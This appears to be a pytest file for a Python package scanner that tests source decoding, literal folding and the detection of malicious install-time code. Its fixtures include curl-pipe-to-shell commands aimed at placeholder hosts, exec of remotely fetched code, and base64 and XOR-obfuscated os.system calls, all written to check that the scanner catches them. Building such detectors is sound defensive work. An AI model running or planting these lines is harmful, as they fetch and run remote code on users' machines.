"""Units: what is read as Python, how it is decoded, and what is kept of its literals."""

from __future__ import annotations

import ast
import base64
import contextlib
import tracemalloc
from typing import Any

import pytest

from safe_pip.distribution import DistributionKind
from safe_pip.errors import UnscannableError
from safe_pip.evidence import Surface
from safe_pip.extractors import SCHEMA, observe
from safe_pip.extractors.interpreter import Interpreter
from safe_pip.extractors.parsing import decode_source, parse, parse_leniently
from safe_pip.extractors.program import Program
from safe_pip.extractors.triggers import earns_tree
from safe_pip.extractors.unit import FoldedLiteral, PythonUnit, python_units
from safe_pip.extractors.values import Value
from tests.sources import code_evidence, distribution_of


def _unit(source: str | bytes, path: str = "pkg/__init__.py") -> PythonUnit:
    (unit,) = python_units(distribution_of({path: source}))
    return unit


def _evaluations(source: str) -> int:
    """How many expressions are evaluated."""
    fuel = 1_000_000
    imports = Program(distribution_of({}))
    interpreter = Interpreter(path="m.py", surface=Surface.MODULE, imports=imports, fuel=fuel)
    counted = 0
    evaluate = interpreter.evaluate

    def count(*arguments: Any) -> Value:
        nonlocal counted
        counted += 1
        return evaluate(*arguments)

    interpreter.evaluate = count  # type: ignore[assignment,method-assign]
    interpreter.run(ast.parse(source))
    return counted


def _literals(source: str) -> set[tuple[int, str | bytes, bool]]:
    return {(item.line, item.value, item.is_folded) for item in _unit(source).literals}


def test_every_piece_of_python_is_a_unit() -> None:
    units = python_units(
        distribution_of(
            {
                "pkg/__init__.py": "exec(open('data.txt').read())\n",
                "pkg/data.txt": "import os\n",
                "pkg/window.pyw": "",
                "demo.pth": "import os\n",
                "bin/run": "#!/usr/bin/python\n",
                "README.md": "# import os\n",
                "bin/other": "#!/bin/sh\n",
            },
            kind=DistributionKind.WHEEL,
        )
    )
    assert {unit.path for unit in units} == {
        "pkg/__init__.py",
        "pkg/data.txt",
        "pkg/window.pyw",
        "demo.pth",
        "bin/run",
    }


def test_startup_file_keeps_its_import_lines_and_numbers() -> None:
    unit = _unit("/a/path\n\nimport os; x = 'y'\nimportant/path\n", path="demo.pth")
    assert unit.source == "\n\nimport os; x = 'y'\n\n"
    assert unit.surface is Surface.STARTUP
    assert FoldedLiteral(value="y", line=3, surface=Surface.STARTUP) in unit.literals


def test_literals_are_kept_written_and_folded() -> None:
    found = _literals("x = 'ab' + 'cd'\ny = b'YQ=='\nimport base64\nz = base64.b64decode(y)\n")
    assert {(1, "ab", False), (1, "cd", False), (1, "abcd", True), (2, b"YQ==", False)} <= found


def test_unknown_parts_of_a_literal_are_holes() -> None:
    found = _literals("def f(token):\n    return f'https://api.example/{token}/send'\n")
    assert (2, "https://api.example/{}/send", True) in found


def test_docstring_is_told_from_other_literals() -> None:
    unit = _unit('"""A docstring."""\nX = "a value"\n')
    assert {item.value: item.is_docstring for item in unit.literals} == {
        "A docstring.": True,
        "a value": False,
    }


def test_plain_module_earns_no_tree() -> None:
    unit = _unit("def add(a, b):\n    return a + b\n", path="pkg/module.py")
    assert not unit.has_tree
    assert unit.parse_error == ""
    assert unit.literals == ()


def test_the_straightforward_path_gives_every_file_a_tree() -> None:
    files = {"pkg/a.py": "VALUE = 1\n", "pkg/b.py": "import subprocess\n"}
    distribution = distribution_of(files, kind=DistributionKind.WHEEL)
    fast = {unit.path: unit.has_tree for unit in python_units(distribution)}
    whole = {unit.path: unit.has_tree for unit in python_units(distribution, reads_all=True)}
    assert not fast["pkg/a.py"] and fast["pkg/b.py"]
    assert all(whole.values())


def test_unparsable_source_keeps_its_literals() -> None:
    unit = _unit("x = 'before'\nif (:\ny = 'after'\n" + "(" * 300, path="setup.py")
    assert unit.parse_error
    assert "before" in {item.value for item in unit.literals}


@pytest.mark.parametrize(
    ("data", "text"),
    [
        (b"\xef\xbb\xbfx = 1\r\n", "x = 1\n"),
        (b"# coding: latin-1\nx = '\xe9'\n", "# coding: latin-1\nx = 'é'\n"),
        ("# coding: utf-8\nx = 'é'\n".encode(), "# coding: utf-8\nx = 'é'\n"),
        (b"# coding: no-such-codec\nx = 1\n", "# coding: no-such-codec\nx = 1\n"),
        (b"x = '\xff'\n", "x = '\ufffd'\n"),
    ],
)
def test_source_is_decoded_as_python_would(data: bytes, text: str) -> None:
    assert decode_source(data) == text


@pytest.mark.parametrize(
    "source",
    [
        "(" * 100_000,
        "x = " + "-" * 100_000 + "1",
        "x = " + "lambda:" * 20_000 + "1",
        "x = " + "+".join("1" * 50_000),
        "x = a" + ".b" * 50_000,
        "x = 1 if 1 else " * 20_000 + "1",
        "if 1:\n pass\n" + "elif 1:\n pass\n" * 20_000,
        "x = '" + "a" * 1_000_000,
        "\0",
        "def f(:\n" * 1_000,
    ],
    ids=["brackets", "minus", "lambda", "plus", "dots", "if", "elif", "open string", "nul", "def"],
)
def test_hostile_source_gives_a_reason_and_no_crash(source: str) -> None:
    assert parse(source).tree is not None or parse(source).error
    parse_leniently(source)


@pytest.mark.parametrize("filler", ["\n", " ", " \n", "\0", ":;"])
def test_python_2_forms_take_no_time_over_filler(filler: str) -> None:
    """They once were quadratic in blank lines: this took minutes."""
    parsed = parse_leniently(filler * 200_000 + "\nprint 'x'\n")
    assert parsed.tree is not None
    assert ast.unparse(parsed.tree).splitlines()[-1] == "print('x')"


def test_python_2_source_keeps_its_line_numbers() -> None:
    parsed = parse_leniently("import os\nprint 'x'\nx = 0777L\nif x <> 1:\n\tos.system(`x`)\n")
    assert parsed.error
    assert parsed.tree is not None
    assert parsed.tree.body[-1].lineno == 4


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess",
        "import _socket",
        "exec(x)",
        "import urllib.request",
        "x = '" + "A" * 300 + "'",
    ],
)
def test_telling_words_and_shapes_earn_a_tree(source: str) -> None:
    assert earns_tree(source.encode())


@pytest.mark.parametrize(
    "source",
    [
        "import os\nHERE = os.path.dirname(__file__)\n",
        "model.eval()\ndf.eval('a + b')\n",
        "# this will execute the evaluation\nexecutor = None\n",
        "value = getattr(self, 'name', None)\n",
        "import platform\nplatform.system()\n",
        'def f():\n    """\n    >>> import requests\n    >>> requests.get("http://x")\n    """\n',
        "import sys\nsys.modules[__name__] = Lazy(__name__, globals()['__file__'])\n",
    ],
)
def test_ordinary_modules_earn_no_tree(source: str) -> None:
    assert not earns_tree(source.encode())


def test_vector_does_not_depend_on_the_order_of_members() -> None:
    files = {
        "setup.py": "from demo.core import run\nrun()\n",
        "demo/__init__.py": "import os\nos.system('curl https://x | sh')\n",
        "demo/core.py": "import requests\ndef run():\n    exec(requests.get('https://x').text)\n",
        "demo/data.txt": "import socket\n",
        "demo/other.py": "exec(open('data.txt').read())\n",
    }
    backwards = dict(reversed(files.items()))
    forwards = observe(distribution_of(files))
    assert forwards == observe(distribution_of(backwards))
    assert SCHEMA.fold(forwards).values.any()


@pytest.mark.parametrize(
    ("start", "line"),
    [
        ("'ab'", "x = x + x"),
        ("'ab' + unknown", "x = x + x"),
        ("[unknown]", "x = x + x"),
        ("'ab'", "x = f'{x}{x}'"),
        ("'ab'", "x = '%s%s' % (x, x)"),
        ("'ab' + unknown", "x = '%s%s' % (x, x)"),
        ("'ab'", "x = '{0}{0}'.format(x)"),
        ("'ab' + unknown", "x = '{0}{0}'.format(x)"),
        ("'ab' + unknown", "x = ''.join([x, x])"),
        ("'ab' + unknown", "x = os.path.join(x, x)"),
    ],
)
def test_what_doubles_on_every_line_stays_bounded(start: str, line: str) -> None:
    source = f"import os\nx = {start}\n" + f"{line}\n" * 300
    tracemalloc.start()
    try:
        with contextlib.suppress(UnscannableError):
            _unit(source)
        _, peak_bytes = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak_bytes < 250 << 20


def test_more_computed_text_than_can_be_held_is_refused() -> None:
    source = "x = 'ab' * 2_000_000\n" + "".join(f"y = x + '{n}'\n" for n in range(1_000))
    with pytest.raises(UnscannableError, match="more text than can be held"):
        _unit(source)


def test_comprehension_in_another_costs_no_more_than_one() -> None:
    """As the table of a XOR in aiohttp, 65,536 numbers: 20,000 rounds are followed, as of one."""
    table = "def f():\n    return [bytes(a ^ b for a in range(256)) for b in range(256)]\nf()\n"
    assert _evaluations(table) < 5 * 20_000


@pytest.mark.parametrize(
    "body",
    [
        "if p in seen: raise RuntimeError(l)\n        seen.add(p)\n        p = p.parent",
        "time.sleep(l)",
        "x = l.name.upper()" + "; y = x + l.other" * 9,
    ],
)
def test_rounds_that_change_nothing_end_a_loop(body: str) -> None:
    """As the way through a logger's parents in celery, a thousand rounds each of many times."""
    source = (
        "import time\ndef f(l, p):\n    seen = set()\n"
        f"    for _ in range(1000):\n        {body}\nf(l, p)\n"
    )
    evaluated = _evaluations(source)
    assert evaluated == _evaluations(source.replace("1000", "2000"))
    assert evaluated < 4_000


def test_rounds_that_change_something_are_all_run() -> None:
    source = (
        "import os\nn = 0\ntext = ''\nfor _ in range(40):\n"
        "    n = n + 1\n    if n == 35: text = 'curl http://x.example.co/p|sh'\nos.system(text)\n"
    )
    found = {item.feature for item in code_evidence({"demo/__init__.py": source})}
    assert "shell_download" in found
    counted = "text = ''\nn = 0\ndef step():\n    global n, text\n    n += 1\n    if n == 35: text = 'curl http://x.example.co/p|sh'\n"
    for way in ("m.step()", "exec('m.step()')", "g()"):
        module = f"import os\nfrom . import m\ng = m.step\nfor _ in range(40):\n    {way}\nos.system(m.text)\n"
        package = {"pkg/__init__.py": module, "pkg/m.py": counted}
        found = {item.feature for item in code_evidence(package)}
        assert "shell_download" in found, way
    hidden = "import os;os.system('x')"
    for _ in range(14):
        hidden = base64.b64encode(hidden.encode()).decode()
    decoding = f"import base64\nd = {hidden!r}\nfor _ in range(14):\n    d = base64.b64decode(d)\n"
    found = {item.feature for item in code_evidence({"demo/__init__.py": decoding + "exec(d)\n"})}
    assert "proc_spawn_unasked" in found


def test_text_of_many_short_pieces_is_decoded() -> None:
    rows = [[ord(letter) ^ 7 for letter in part] for part in ("import os;os.sys", "tem('x')")]
    decoded = f"exec(''.join(''.join(chr(n ^ 7) for n in row) for row in {rows}))\n"
    found = {item.feature for item in code_evidence({"demo/__init__.py": decoded})}
    assert "proc_spawn_unasked" in found
